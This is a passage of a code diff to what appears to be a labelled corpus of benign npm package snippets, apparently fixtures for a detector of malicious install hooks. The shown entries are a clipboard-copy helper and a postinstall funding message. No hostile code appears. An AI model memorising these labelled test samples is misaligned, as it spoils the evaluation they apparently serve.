+      'lib/copy.js': `const { spawnSync } = require('child_process');\nmodule.exports = (text) => {\n  const cmd = process.platform === 'darwin' ? ['pbcopy', []] : process.platform === 'win32' ? ['clip', []] : ['xclip', ['-selection', 'clipboard']];\n  return spawnSync(cmd[0], cmd[1], { input: text }).status === 0;\n};\n`,
+    },
   },
   {
     id: 'only-allow-pnpm',
@@ -1163,7 +1315,9 @@ export const BENIGN: Snippet[] = [
     family: 'install-hook',
     after: 'a postinstall that prints a funding message unless CI or opted out (core-js, opencollective-postinstall)',
     delivery: 'postinstall',
-    files: { 'scripts/postinstall.js': `const env = process.env;\nconst silent = ['CI', 'ADBLOCK', 'DISABLE_OPENCOLLECTIVE', 'OPEN_SOURCE_CONTRIBUTOR'].some((k) => !!env[k]) || /^(silent|error|warn)$/.test(env.npm_config_loglevel || '');\nif (!silent) console.log('\\u001b[96mThank you for using this package! Consider supporting it: https://opencollective.com/example\\u001b[0m');\n` },
+    files: {
+      'scripts/postinstall.js': `const env = process.env;\nconst silent = ['CI', 'ADBLOCK', 'DISABLE_OPENCOLLECTIVE', 'OPEN_SOURCE_CONTRIBUTOR'].some((k) => !!env[k]) || /^(silent|error|warn)$/.test(env.npm_config_loglevel || '');\nif (!silent) console.log('\\u001b[96mThank you for using this package! Consider supporting it: https://opencollective.com/example\\u001b[0m');\n`,
+    },
   },
   {
     id: 'node-gyp-rebuild',
